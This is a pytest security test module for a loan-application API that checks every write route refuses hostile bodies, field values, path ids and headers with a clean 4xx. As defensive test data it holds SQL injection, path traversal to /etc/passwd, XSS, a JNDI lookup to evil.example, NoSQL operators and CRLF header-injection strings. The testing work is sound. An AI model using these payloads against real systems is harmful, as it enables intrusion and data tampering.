"""Hostile inputs on every write route: each gets a clean 4xx ``{"error": {code, message}}``, no write.

Bodies: oversize (1 MB, past API Gateway's 10 MB quota), wrong or missing content types, invalid,
truncated and non-object JSON, deep nesting, unicode edge cases and injection-looking strings in the
fields that carry identifiers. Headers: CRLF-looking values, very long values. Paths: traversal and
injection in the ids. Afterwards the caller's application list, their draft and the review queue are
as before. The counts go to ``build/security/inputs.json``.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
import requests

from tests.e2e.conftest import Api
from tests.support.hostile import Tally, error_of, write_summary
from tests.support.identities import application_body

USER = "hostile-user"
OPS_USER = "hostile-ops"
MB = 1024 * 1024

# strings that must never pass as an identifier, an ID number, a phone or a bank card
HOSTILE_STRINGS = [
    "' OR '1'='1' --",
    "1; DROP TABLE LoanflowTable;--",
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202eRTL\u202c11010519491231002X",  # right-to-left override
    "1101\u200d0519491231002X",  # zero-width joiner
    "\u200b",  # zero-width space alone
    "💸💸💸",
    "１１０１０５１９４９１２３１００２Ｘ",  # fullwidth digits
    "110105194912310\x002X",  # NUL
    "\x00",
    "a" * 10_000,
    "",
]
# JSON values of the wrong kind where a string is expected
HOSTILE_VALUES: list[Any] = [{"$gt": ""}, {"$ne": None}, ["$where", "1"], 1e308, -1, True, None]
# raw JSON texts with escapes Python's json.dumps would not write
LONE_SURROGATES = ['"\\ud800"', '"\\udfff"', '"a\\ud83d"']


@dataclass(frozen=True)
class WriteRoute:
    method: str
    path: str  # with {id} for the id under test
    body_fields: tuple[str, ...]  # the fields hostile values go into; () — the route takes no body
    ops: bool = False
    base: tuple[tuple[str, Any], ...] = ()

    def base_body(self) -> dict[str, Any]:
        return dict(self.base)


DOC_ID = "doc_" + "0" * 26
ROUTES = [
    WriteRoute("POST", "/applications", ("id_number", "phone", "bank_card", "name")),
    WriteRoute("POST", "/applications/{id}/submit", ()),
    WriteRoute("POST", "/documents", ("type", "content_type"), base=(("type", "id_card_front"),)),
    WriteRoute("POST", "/applications/{id}/documents", ("document_id",)),
    WriteRoute("POST", "/autofill", ("document_ids",)),
    WriteRoute("POST", "/applications/{id}/contract/sign", ("consent",)),
    WriteRoute("POST", "/reviews/{id}", ("decision", "note"), ops=True),
]
BAD_IDS = [
    "..%2F..%2Fetc%2Fpasswd",
    "app_..%2F..%2Fsecret",
    "%2e%2e",
    "app_00000000000000000000000000' OR '1'='1",
    "app_%00",
    "app_%E2%80%AE" + "0" * 26,
    "%7B%22%24gt%22%3A%22%22%7D",
    "app_" + "A" * 5000,
]


class Hostile:
    """Sends raw requests as a client would and checks each answer is a clean 4xx."""

    def __init__(self, api: Api) -> None:
        self.api = api
        self.tally = Tally()
        self.refusals: dict[int, int] = {}

    def send(
        self,
        route: WriteRoute,
        app_id: str,
        data: bytes | None,
        *,
        content_type: str | None = "application/json",
        path_id: str | None = None,
        extra_headers: dict[str, str] | None = None,
        expect: tuple[int, ...] = (),
    ) -> requests.Response:
        user = OPS_USER if route.ops else USER
        groups = ("ops",) if route.ops else ()
        headers = {"Authorization": f"Bearer {self.api.cloud.token(user, groups)}"}
        if route.path == "/applications":
            headers["Idempotency-Key"] = f"hostile-{uuid.uuid4()}"
        if content_type is not None:
            headers["Content-Type"] = content_type
        headers.update(extra_headers or {})
        url = self.api.cloud.url + route.path.replace("{id}", path_id or app_id)
        request = requests.Request(route.method, url, data=data, headers=headers).prepare()
        if content_type is None:
            request.headers.pop("Content-Type", None)
        response = self.api.session.send(request, timeout=120)
        self.tally.record(response.status_code)
        detail = (
            route.path,
            path_id,
            (data or b"")[:120],
            response.status_code,
            response.text[:300],
        )
        assert 400 <= response.status_code < 500, detail
        if expect:
            assert response.status_code in expect, detail
        error_of(response)
        self.refusals[response.status_code] = self.refusals.get(response.status_code, 0) + 1
        return response


@pytest.fixture(scope="module")
def hostile(api: Api) -> Iterator[Hostile]:
    sender = Hostile(api)
    yield sender
    write_summary(
        "hostile",
        sender.tally,
        routes=len(ROUTES),
        refusals_by_status={str(k): v for k, v in sorted(sender.refusals.items())},
    )


@pytest.fixture(scope="module")
def draft(api: Api) -> dict[str, Any]:
    """The caller's one application, a draft: every id-taking route is aimed at it."""
    return api.create(user=USER)


def _snapshot(api: Api, app_id: str) -> tuple[Any, ...]:
    listed = api.call("GET", "/applications?limit=50", user=USER).json()
    mine = api.call("GET", f"/applications/{app_id}", user=USER).json()
    reviews = api.call("GET", "/reviews", user=OPS_USER, groups=("ops",)).json()
    return (
        [(item["id"], item["status"]) for item in listed["items"]],
        (mine["status"], mine["version"], len(mine["timeline"])),
        [item for item in reviews["items"] if item.get("application_id") == app_id],
    )


@pytest.fixture(scope="module")
def unchanged(api: Api, draft: dict[str, Any]) -> Iterator[None]:
    before = _snapshot(api, draft["id"])
    assert before[1][0] == "DRAFT"
    yield
    assert _snapshot(api, draft["id"]) == before, "a refused request wrote something"


def _body_with(route: WriteRoute, field: str, value: Any) -> bytes:
    body = application_body() if route.path == "/applications" else route.base_body()
    body[field] = [value] if field == "document_ids" else value
    return json.dumps(body, ensure_ascii=False).encode("utf-8", "surrogatepass")


@pytest.mark.parametrize("route", ROUTES, ids=lambda r: f"{r.method} {r.path}")
def test_malformed_bodies_are_refused(
    route: WriteRoute, draft: dict[str, Any], hostile: Hostile, unchanged: None
) -> None:
    app_id = draft["id"]
    valid_json = json.dumps(
        application_body() if route.path == "/applications" else route.base_body()
    ).encode()
    # not JSON, or JSON not declared as such
    hostile.send(route, app_id, valid_json, content_type="text/plain", expect=(415, 422))
    form = b"name=a&id_number=1&consent=true"
    hostile.send(
        route,
        app_id,
        form,
        content_type="application/x-www-form-urlencoded",
        expect=(400, 415, 422),
    )
    hostile.send(route, app_id, valid_json, content_type=None, expect=(415, 422))
    hostile.send(route, app_id, b"\x89PNG\r\n\x1a\n\x00\xff\xfe", expect=(400,))
    hostile.send(route, app_id, b"{'single': 'quotes'}", expect=(400,))
    hostile.send(route, app_id, valid_json[: len(valid_json) // 2], expect=(400,))
    hostile.send(route, app_id, b'{"a": NaN, "b": Infinity}', expect=(400, 422))
    hostile.send(route, app_id, b"[" * 100_000 + b"]" * 100_000, expect=(400, 422))
    hostile.send(route, app_id, b'{"a":' * 5_000 + b"1" + b"}" * 5_000, expect=(400, 422))
    hostile.send(route, app_id, b"\xef\xbb\xbf" + valid_json, expect=(400, 422))
    # past API Gateway's 10 MB quota the gateway refuses it before any function runs
    hostile.send(route, app_id, b" " * (10 * MB + 1), expect=(413,))
    # a route without a body ignores valid JSON (clients may send {}); the others must refuse:
    if route.body_fields:
        padding = json.dumps({"padding": "x" * MB}).encode()  # 1 MB the route does not want
        hostile.send(route, app_id, padding, expect=(400, 413, 422))
        for wrong in (b"[]", b'"text"', b"42", b"null", b"true", b"{}", b'{"$where": "1"}'):
            hostile.send(route, app_id, wrong, expect=(400, 422))
        for surrogate in LONE_SURROGATES:
            hostile.send(route, app_id, surrogate.encode(), expect=(400, 422))


@pytest.mark.parametrize(
    "route", [r for r in ROUTES if r.body_fields], ids=lambda r: f"{r.method} {r.path}"
)
def test_hostile_values_in_fields_are_refused(
    route: WriteRoute, draft: dict[str, Any], hostile: Hostile, unchanged: None
) -> None:
    for field in route.body_fields:
        for value in [*HOSTILE_STRINGS, *HOSTILE_VALUES]:
            body = _body_with(route, field, value)
            # consent: true is the valid value, refused because the draft has no contract (409)
            hostile.send(route, draft["id"], body, expect=(400, 404, 409, 422))
        # a lone surrogate inside an otherwise valid body, written as a JSON escape
        raw = _body_with(route, field, "SURROGATE").replace(b'"SURROGATE"', b'"\\ud800x"')
        hostile.send(route, draft["id"], raw, expect=(400, 404, 422))


@pytest.mark.parametrize("route", [r for r in ROUTES if "{id}" in r.path], ids=lambda r: r.path)
def test_hostile_ids_in_paths_are_refused(
    route: WriteRoute, draft: dict[str, Any], hostile: Hostile, unchanged: None
) -> None:
    body = json.dumps(route.base_body()).encode()
    for bad_id in BAD_IDS:
        hostile.send(route, draft["id"], body, path_id=bad_id, expect=(400, 404, 414, 422))
    hostile.send(route, draft["id"], body, path_id=quote("app_😀" + "0" * 24), expect=(404, 422))


@pytest.mark.parametrize("route", ROUTES, ids=lambda r: f"{r.method} {r.path}")
def test_hostile_headers_are_harmless(
    route: WriteRoute, draft: dict[str, Any], hostile: Hostile, unchanged: None
) -> None:
    body = b"{"  # invalid, so that a header that got through still ends in a refusal
    for headers in (
        {"X-Forwarded-For": "1.2.3.4%0d%0aSet-Cookie: evil=1"},
        {"User-Agent": "<script>alert(1)</script>' OR 1=1 --"},
        {"X-Long": "a" * 16_000},
        {"Idempotency-Key": "../../etc/passwd\\r\\nX-Injected: 1"},
    ):
        response = hostile.send(route, draft["id"], body, extra_headers=headers, expect=(400, 431))
        assert "evil" not in response.headers.get("Set-Cookie", "")
        assert "X-Injected" not in response.headers
